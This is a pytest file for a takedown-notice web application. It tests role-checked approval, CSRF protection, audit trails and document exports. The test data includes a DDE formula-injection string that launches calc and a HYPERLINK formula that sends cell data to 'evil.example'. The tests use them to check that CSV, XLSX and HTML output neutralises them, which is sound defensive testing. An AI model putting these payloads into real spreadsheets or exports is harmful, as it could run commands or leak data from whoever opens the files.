"""``/api/v1/takedowns`` and the ``/takedowns`` pages: draft, role-checked approval, exports, status, UI."""

from __future__ import annotations

import io

from docx import Document
from fastapi.testclient import TestClient

from store.models import ListingStatus

PASSWORD = "correct horse battery"  # the users fixture's password (tests/api/conftest.py)


def _draft(reviewer: TestClient, seed, png: bytes) -> str:  # type: ignore[no-untyped-def]
    seed.listing(
        "专利包授权",
        "包授权 不成功全额退款",
        platform="taobao",
        status=ListingStatus.confirmed,
        shop="快通店",
        hits=[("grant", "包授权")],
        screenshot=png,
    )
    seed.listing(
        "=cmd|' /C calc'!A0",
        "挂证",
        platform="taobao",
        status=ListingStatus.confirmed,
        shop="快通店",
        categories=("certificate_renting",),
    )
    seed.listing("待审核", "包授权", platform="taobao", status=ListingStatus.flagged, shop="快通店")
    r = reviewer.post("/api/v1/takedowns/draft", json={})
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["listings"] == 2 and len(body["created"]) == 1
    return str(body["created"][0])


def test_rest_flow(
    reviewer: TestClient, supervisor: TestClient, client: TestClient, seed, png: bytes
) -> None:  # type: ignore[no-untyped-def]
    ref = _draft(reviewer, seed, png)
    assert client.get("/api/v1/takedowns").status_code == 401
    assert reviewer.post(f"/api/v1/takedowns/{ref}/approve").status_code == 403
    sneaky = reviewer.post(f"/api/v1/takedowns/{ref}/status", json={"status": "approved"})
    assert sneaky.status_code == 403 and "supervisor" in sneaky.json()["detail"]
    assert reviewer.get(f"/api/v1/takedowns/{ref}/export/pdf").status_code == 409
    early = reviewer.post(f"/api/v1/takedowns/{ref}/status", json={"status": "sent"})
    assert early.status_code == 409 and "cannot become sent" in early.json()["detail"]

    approved = supervisor.post(f"/api/v1/takedowns/{ref}/approve")
    assert approved.status_code == 200 and approved.json()["status"] == "approved"
    assert approved.json()["deadline"] is not None and approved.json()["next"] == ["draft", "sent"]

    docx = reviewer.get(f"/api/v1/takedowns/{ref}/export/docx")
    assert docx.status_code == 200 and "attachment" in docx.headers["content-disposition"]
    text = "\n".join(p.text for p in Document(io.BytesIO(docx.content)).paragraphs)
    assert "阿里巴巴集团知识产权保护平台" in text
    assert reviewer.get(f"/api/v1/takedowns/{ref}/export/docx").content == docx.content
    csv = reviewer.get("/api/v1/takedowns/export", params={"platform": "taobao", "format": "csv"})
    assert csv.status_code == 200 and csv.content.startswith(b"\xef\xbb\xbf")
    assert "'=cmd|" in csv.content.decode("utf-8-sig")
    assert (
        reviewer.get(
            "/api/v1/takedowns/export", params={"platform": "taobao", "format": "pdf"}
        ).status_code
        == 422
    )
    assert reviewer.get(f"/api/v1/takedowns/{ref}/export/odt").status_code == 422

    # sending in the office's name is a supervisor's act (issue 17, finding 2)
    refused = reviewer.post(f"/api/v1/takedowns/{ref}/status", json={"status": "sent"})
    assert refused.status_code == 403 and "supervisor" in refused.json()["detail"]
    sent = supervisor.post(
        f"/api/v1/takedowns/{ref}/status", json={"status": "sent", "note": "已通过IPP提交"}
    )
    assert sent.json()["status"] == "sent"
    detail = reviewer.get(f"/api/v1/takedowns/{ref}").json()
    assert len(detail["listings"]) == 2 and {i["status"] for i in detail["listings"]} == {"pending"}
    listed = reviewer.get("/api/v1/takedowns", params={"status": "sent"}).json()
    assert [n["reference"] for n in listed] == [ref]
    assert reviewer.get("/api/v1/takedowns/TD-nope").status_code == 404
    # the seeded capture rows have no signed manifest in the vault: refused, not a broken zip
    missing = reviewer.get(f"/api/v1/takedowns/{ref}/evidence.zip")
    assert missing.status_code == 409 and "not available" in missing.json()["detail"], missing.text

    audit = supervisor.get(
        "/api/v1/audit", params={"object_type": "takedown_notice", "action": "takedown."}
    )
    assert audit.status_code == 200, audit.text
    trail = [(e["actor"], e["action"]) for e in reversed(audit.json()["items"])]
    assert trail == [
        ("reviewer", "takedown.draft"),
        ("supervisor", "takedown.approved"),
        ("supervisor", "takedown.sent"),
    ]

    report = reviewer.get("/api/v1/takedowns/reports/2026-03", params={"format": "html"})
    assert report.status_code == 200 and "<svg" in report.text
    assert "attachment" in report.headers["content-disposition"]
    assert reviewer.get("/api/v1/takedowns/reports/2026-3").status_code == 422


def test_ui_pages_and_forms(reviewer: TestClient, client: TestClient, seed, png: bytes) -> None:  # type: ignore[no-untyped-def]
    ref = _draft(reviewer, seed, png)
    assert client.get("/takedowns", follow_redirects=False).status_code == 303
    login = client.post("/api/v1/auth/login", json={"username": "supervisor", "password": PASSWORD})
    assert login.status_code == 200, login.text
    csrf = login.json()["csrf_token"]
    page = client.get("/takedowns")
    assert page.status_code == 200 and ref in page.text and "草稿" in page.text
    detail = client.get(f"/takedowns/{ref}")
    assert detail.status_code == 200
    assert "函件预览" in detail.text and "&lt;" not in ref
    assert (
        "=cmd|&#39; /C calc&#39;!A0" in detail.text or "=cmd|&#x27; /C calc&#x27;!A0" in detail.text
    )
    forged = client.post(
        f"/takedowns/{ref}/status", data={"status": "approved"}, follow_redirects=False
    )
    assert forged.status_code == 403
    ok = client.post(
        f"/takedowns/{ref}/status",
        data={"status": "approved", "csrf_token": csrf},
        follow_redirects=False,
    )
    assert ok.status_code == 303
    assert "已批准" in client.get(f"/takedowns/{ref}").text
    monthly = client.get("/takedowns/report", params={"month": "2026-03"})
    assert (
        monthly.status_code == 200
        and monthly.text.count("<svg") == 3
        and "<style>" not in monthly.text
    )
    assert client.get("/takedowns/report", params={"month": "2026-3"}).status_code == 422


def test_monthly_report_xlsx_from_the_api_has_no_formula_cells(reviewer: TestClient, seed) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    seed.listing("标题", "包授权", platform="taobao", status=ListingStatus.confirmed, region=evil)
    r = reviewer.get("/api/v1/takedowns/reports/2026-03", params={"format": "xlsx"})
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + evil in {c.value for c in cells}


def test_escalation_letter_once_the_deadline_has_passed(
    app, reviewer: TestClient, supervisor: TestClient, seed, png: bytes
) -> None:  # type: ignore[no-untyped-def]
    from datetime import timedelta

    from sqlalchemy import select

    from store.db import session_scope
    from store.models import TakedownNotice

    ref = _draft(reviewer, seed, png)
    supervisor.post(f"/api/v1/takedowns/{ref}/approve")
    supervisor.post(f"/api/v1/takedowns/{ref}/status", json={"status": "sent"})
    early = supervisor.post(f"/api/v1/takedowns/{ref}/escalation/docx")
    assert early.status_code == 409 and "not overdue" in early.json()["detail"]
    with session_scope(app.state.sessionmaker) as s:
        notice = s.scalars(select(TakedownNotice).where(TakedownNotice.reference == ref)).one()
        assert notice.deadline is not None
        notice.deadline = notice.deadline - timedelta(days=60)  # as if sent two months ago
    assert reviewer.post(f"/api/v1/takedowns/{ref}/escalation/docx").status_code == 403
    r = supervisor.post(f"/api/v1/takedowns/{ref}/escalation/docx")
    assert r.status_code == 200, r.text
    assert f"{ref}-escalation.docx" in r.headers["content-disposition"]
    text = "\n".join(p.text for p in Document(io.BytesIO(r.content)).paragraphs)
    assert "关于督促处置违规招揽专利、商标代理业务信息的函" in text
    assert supervisor.get(f"/api/v1/takedowns/{ref}").json()["escalated_at"] is not None
